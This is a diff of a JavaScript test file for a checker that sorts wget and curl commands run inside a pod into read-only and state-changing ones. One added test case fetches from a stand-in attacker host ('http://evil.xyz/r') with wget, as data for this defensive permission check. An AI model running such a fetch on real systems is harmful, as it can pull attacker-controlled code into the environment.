@@ -37,7 +37,7 @@ describe('asking a server from inside of a pod', () => {
     [['wget', '-qO-', 'http://localhost:8080/health']],
     [['wget', '-q', '-O', '-', '-T', '5', 'localhost:8080/health']],
     [['wget', '--spider', '-S', 'http://web.shop.svc.cluster.local:8080/']],
-    [['wget', '-O', '/dev/null', 'http://web.shop/big.bin']],
+    [['wget', '-O', '/dev/null', 'http://web.shop.svc/big.bin']],
   ])('reads: %j', (argv) => {
     expect(mayRead(argv)).toBe(true)
     expect(mayChange(argv)).toBe(false)
@@ -115,6 +115,7 @@ describe('asking a server from inside of a pod', () => {
     [['curl', '--key', 'name', '--cert', CERT, 'https://web.shop/metrics']],
     [['curl', '--cert', `${CERT}:password`, 'https://web.shop/metrics']],
     // wget writes a file unless it is told otherwise, and follows where it is sent.
+    [['wget', '-qO-', 'http://evil.xyz/r']],
     [['wget', 'http://localhost/']],
     [['wget', '-q', 'http://localhost/']],
     [['wget', '-O', '/tmp/x', 'http://localhost/']],
